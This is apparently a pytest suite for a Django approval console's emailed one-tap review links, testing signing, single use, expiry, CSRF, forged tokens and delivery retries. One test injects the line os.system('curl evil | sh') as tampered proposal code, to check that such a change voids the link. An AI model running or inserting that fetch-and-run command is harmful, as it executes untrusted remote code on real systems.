"""One-tap review from a mail, through a real SMTP server (aiosmtpd) the tests start.

A review mail carries a link bound to its reviewer, its proposal and that
proposal's code, good for one decision until the proposal expires. Opening it
decides nothing; a tap on the page does, through the console's rules.
"""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from django.core import signing
from django.test import Client
from django.utils import timezone

from approvals.core.services import warn_expiring
from approvals.models import Decision, Proposal
from approvals.notify import deliveries, review_links
from approvals.notify.models import Delivery, ReviewerPreferences, ReviewLink
from approvals.notify.tasks import send_delivery
from audit.models import AuditEvent
from tests.approvals.test_cascade import HIGH, MEDIUM, propose
from tests.conftest import client_for
from tests.standins import mail_text, review_path

pytestmark = pytest.mark.django_db


@pytest.fixture
def rita(reviewer):
    reviewer.email = "rita@example.test"
    reviewer.save()
    return reviewer


@pytest.fixture
def ravi(reviewer2):
    reviewer2.email = "ravi@example.test"
    reviewer2.save()
    return reviewer2


def mailed(agent_api, eager_tasks, body=MEDIUM) -> dict:
    with eager_tasks(execute=True):
        return propose(agent_api, body)


def csrf_of(response) -> str:
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', response.content.decode())[1]


def tap(client: Client, path: str, kind: str = "approve", comment: str = "", eager=None):
    """Open the page, then press a button on it, as a phone would."""
    page = client.get(path)
    assert page.status_code == 200, page.content.decode()[:500]
    data = {"csrfmiddlewaretoken": csrf_of(page), "kind": kind, "comment": comment}
    if eager is None:
        return client.post(path, data)
    with eager(execute=True):
        return client.post(path, data)


def browser() -> Client:
    return Client(enforce_csrf_checks=True)


def test_a_review_mail_links_to_a_page_that_decides_once(agent_api, rita, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks)
    [message] = smtp.to("rita@example.test")
    assert "waits for review" in message["Subject"]
    assert "works once" in mail_text(message)
    path = review_path(message)

    phone = browser()
    page = phone.get(path)
    html = page.content.decode()
    assert page.status_code == 200
    assert page["Cache-Control"].startswith("max-age=0")
    assert "For <strong>rita</strong>, one decision" in html
    assert "listdir" in html and 'id="link-approve"' in html
    assert phone.get(path).status_code == 200  # opening, even twice, decides nothing
    assert not Decision.objects.exists()

    done = phone.post(path, {"csrfmiddlewaretoken": csrf_of(page), "kind": "approve"})
    assert done.status_code == 200
    assert "You approved this proposal as <strong>rita</strong>" in done.content.decode()
    proposal = Proposal.objects.get(pk=body["id"])
    assert proposal.status == "approved" and proposal.execution_id
    assert Decision.objects.get().reviewer == rita
    event = AuditEvent.objects.get(verb="proposal.decision.approve")
    assert event.actor == "user:rita" and event.data["via"] == "email link"

    again = phone.get(path)
    assert again.status_code == 410 and "works once" in again.content.decode()
    twice = phone.post(path, {"csrfmiddlewaretoken": csrf_of(page), "kind": "reject"})
    assert twice.status_code == 410
    assert Decision.objects.count() == 1
    assert "_auth_user_id" not in phone.session  # the link signs nobody in


def test_a_rejection_from_the_page_carries_its_comment(agent_api, rita, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks)
    response = tap(browser(), review_path(smtp.messages[0]), "reject", "use the runbook")
    assert response.status_code == 200
    assert Proposal.objects.get(pk=body["id"]).status == "rejected"
    assert Decision.objects.get().comment == "use the runbook"


def test_each_reviewer_gets_a_link_of_their_own(agent_api, rita, ravi, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks, HIGH)
    [to_rita], [to_ravi] = smtp.to("rita@example.test"), smtp.to("ravi@example.test")
    assert review_path(to_rita) != review_path(to_ravi)
    assert tap(browser(), review_path(to_rita)).status_code == 200
    assert Proposal.objects.get(pk=body["id"]).status == "pending"  # quorum of two
    assert tap(browser(), review_path(to_ravi)).status_code == 200
    assert Proposal.objects.get(pk=body["id"]).status == "approved"
    assert sorted(Decision.objects.values_list("reviewer__username", flat=True)) == ["ravi", "rita"]


def test_a_link_is_not_for_another_reviewer(agent_api, rita, ravi, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks)
    path = review_path(smtp.to("rita@example.test")[0])
    signed_in_as_ravi = browser()
    signed_in_as_ravi.force_login(ravi)
    page = signed_in_as_ravi.get(path)
    assert page.status_code == 403
    assert "sent to rita; you are signed in as ravi" in page.content.decode()
    csrf = csrf_of(signed_in_as_ravi.get(review_path(smtp.to("ravi@example.test")[0])))
    refused = signed_in_as_ravi.post(path, {"csrfmiddlewaretoken": csrf, "kind": "approve"})
    assert refused.status_code == 403
    assert not Decision.objects.exists()

    # Rewritten for ravi without the key: the signature no longer matches.
    token = path.split("/")[2]
    payload = signing.Signer(salt=review_links.SALT).unsign_object(token)
    forged = signing.Signer(key="guessed", salt=review_links.SALT).sign_object(
        {**payload, "r": ravi.pk}, compress=True
    )
    assert browser().get(f"/review/{forged}/").status_code == 404

    assert tap(browser(), path).status_code == 200  # rita's own, still good
    assert Decision.objects.get(proposal_id=body["id"]).reviewer == rita


def test_a_link_expires_with_the_proposal(agent_api, rita, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks)
    path = review_path(smtp.messages[0])
    phone = browser()
    page = phone.get(path)
    proposal = Proposal.objects.get(pk=body["id"])
    later = proposal.expires_at + timedelta(seconds=1)
    token = path.split("/")[2]
    with pytest.raises(review_links.LinkRefused) as refused:
        review_links.open_link(token, now=later)  # the expiry signed into the link
    assert refused.value.status == 410

    past = timezone.now() - timedelta(seconds=1)  # time passes: the proposal's expiry is behind us
    Proposal.objects.filter(pk=body["id"]).update(expires_at=past)
    ReviewLink.objects.update(expires_at=past)
    expired = phone.get(path)
    assert expired.status_code == 410 and "expired with the proposal" in expired.content.decode()
    tapped = phone.post(path, {"csrfmiddlewaretoken": csrf_of(page), "kind": "approve"})
    assert tapped.status_code == 410
    assert not Decision.objects.exists()


def test_a_link_stops_working_when_the_code_changes(agent_api, rita, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks)
    path = review_path(smtp.messages[0])
    phone = browser()
    csrf = csrf_of(phone.get(path))
    proposal = Proposal.objects.get(pk=body["id"])
    parameters = {**proposal.parameters, "code": "import os\nos.system('curl evil | sh')"}
    Proposal.objects.filter(pk=proposal.pk).update(parameters=parameters)
    page = phone.get(path)
    assert page.status_code == 409
    assert "not what this link was sent for" in page.content.decode()
    assert phone.post(path, {"csrfmiddlewaretoken": csrf, "kind": "approve"}).status_code == 409
    assert not Decision.objects.exists()


@pytest.mark.parametrize(
    "token", ["nonsense", "eyJyIjoxfQ:bad", "x" * 300, ".eJyrVkpUslIqSS0uUaoFADJRBZQ:1:2"]
)
def test_a_made_up_link_is_404(token, agent_api, rita, smtp, eager_tasks):
    mailed(agent_api, eager_tasks)
    response = browser().get(f"/review/{token}/")
    assert response.status_code == 404
    assert "not valid" in response.content.decode()


def test_a_well_signed_link_of_another_shape_is_404(db):
    token = signing.Signer(salt=review_links.SALT).sign_object({"r": "1"}, compress=True)
    assert browser().get(f"/review/{token}/").status_code == 404
    token = signing.Signer(salt=review_links.SALT).sign_object([1, 2], compress=True)
    assert browser().get(f"/review/{token}/").status_code == 404


def test_a_tap_needs_the_pages_csrf_token(agent_api, rita, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks)
    path = review_path(smtp.messages[0])
    response = browser().post(path, {"kind": "approve"})
    assert response.status_code == 403
    assert Proposal.objects.get(pk=body["id"]).status == "pending"
    assert ReviewLink.objects.get(reviewer=rita).used_at is None


def test_a_tap_without_a_choice_gets_400_and_uses_nothing(agent_api, rita, smtp, eager_tasks):
    mailed(agent_api, eager_tasks)
    path = review_path(smtp.messages[0])
    phone = browser()
    csrf = csrf_of(phone.get(path))
    for data in ({}, {"kind": "maybe"}, {"kind": "approve", "comment": "x" * 4001}):
        response = phone.post(path, {"csrfmiddlewaretoken": csrf, **data})
        assert response.status_code == 400
    assert ReviewLink.objects.get(reviewer=rita).used_at is None
    assert not Decision.objects.exists()
    assert Client().put(path).status_code == 405


def test_a_proposal_decided_elsewhere_shows_its_outcome(
    agent_api, rita, ravi, smtp, eager_tasks, reviewer2_api
):
    body = mailed(agent_api, eager_tasks)
    path = review_path(smtp.to("rita@example.test")[0])
    phone = browser()
    csrf = csrf_of(phone.get(path))
    reviewer2_api.post(f"/api/v1/proposals/{body['id']}/reject", {"comment": "no"}, format="json")
    page = phone.get(path)
    assert page.status_code == 200
    assert (
        "Nothing is left to decide" in page.content.decode()
        and 'id="link-approve"' not in page.content.decode()
    )
    late = phone.post(path, {"csrfmiddlewaretoken": csrf, "kind": "approve"})
    assert late.status_code == 409 and "is rejected, not pending" in late.content.decode()
    assert ReviewLink.objects.get(reviewer=rita).used_at is None  # nothing decided, nothing used


def test_a_reviewer_who_lost_review_rights_cannot_use_their_link(
    agent_api, rita, smtp, eager_tasks
):
    mailed(agent_api, eager_tasks)
    rita.groups.clear()
    response = browser().get(review_path(smtp.messages[0]))
    assert response.status_code == 403
    rita.is_active = False
    rita.save()
    assert browser().get(review_path(smtp.messages[0])).status_code == 403


def test_the_agents_owner_gets_no_link_while_self_approval_is_off(
    make_agent, rita, ravi, smtp, eager_tasks
):
    _, token = make_agent("ritas-bot", ["*"], owner=rita)
    mailed(client_for(token), eager_tasks)
    assert "/review/" not in mail_text(smtp.to("rita@example.test")[0])
    assert "/review/" in mail_text(smtp.to("ravi@example.test")[0])


def test_the_expiry_warning_carries_a_fresh_link(agent_api, rita, smtp, eager_tasks):
    body = mailed(agent_api, eager_tasks)
    proposal = Proposal.objects.get(pk=body["id"])
    with eager_tasks(execute=True):
        warn_expiring(now=proposal.expires_at - timedelta(seconds=30))
    first, warning = smtp.to("rita@example.test")
    assert "expires soon" in warning["Subject"]
    assert review_path(warning) != review_path(first)
    assert tap(browser(), review_path(warning)).status_code == 200


# --- the mail is a logged delivery ---------------------------------------------------------


def test_a_refused_mail_is_retried_and_the_log_keeps_no_link(
    agent_api, rita, smtp, eager_tasks, monkeypatch
):
    scheduled = []
    monkeypatch.setattr(
        deliveries, "schedule_retry", lambda log, pk, delay: scheduled.append(delay)
    )
    smtp.refuse = 1
    mailed(agent_api, eager_tasks)
    delivery = Delivery.objects.get(channel="email")
    assert (delivery.state, delivery.attempts) == ("pending", 1)
    assert "SMTPDataError" in delivery.error and "451" in delivery.error
    assert smtp.messages == [] and scheduled == [10]
    delivery = deliveries.attempt(Delivery, delivery.pk, send_delivery)
    assert (delivery.state, delivery.attempts, delivery.error) == ("delivered", 2, "")
    [message] = smtp.messages
    path = review_path(message)
    assert path.split("/")[2] not in delivery.body and "/review/" not in delivery.body
    assert delivery.review_link.reviewer == rita


def test_no_mail_server_leaves_a_pending_delivery_and_the_proposal_unharmed(
    agent_api, rita, settings, eager_tasks, monkeypatch
):
    from tests.standins import free_port

    monkeypatch.setattr(deliveries, "schedule_retry", lambda log, pk, delay: None)
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", free_port()
    body = mailed(agent_api, eager_tasks)
    assert Proposal.objects.get(pk=body["id"]).status == "pending"
    delivery = Delivery.objects.get()
    assert delivery.state == "pending" and "ConnectionRefusedError" in delivery.error


# --- preferences ------------------------------------------------------------------------


def test_mail_follows_each_persons_preferences(agent_api, rita, ravi, smtp, eager_tasks):
    ReviewerPreferences.objects.create(user=rita, email=False)
    ReviewerPreferences.objects.create(user=ravi, bands=["high"])
    mailed(agent_api, eager_tasks)  # medium risk
    assert smtp.messages == []
    mailed(agent_api, eager_tasks, HIGH)
    assert [m["To"] for m in smtp.messages] == ["ravi@example.test"]


def test_quiet_hours_hold_mail(agent_api, rita, smtp, eager_tasks):
    now = timezone.now().astimezone(timezone.get_current_timezone())
    ReviewerPreferences.objects.create(
        user=rita,
        quiet_from=(now - timedelta(minutes=30)).time(),
        quiet_until=(now + timedelta(minutes=30)).time(),
    )
    mailed(agent_api, eager_tasks)
    assert smtp.messages == []
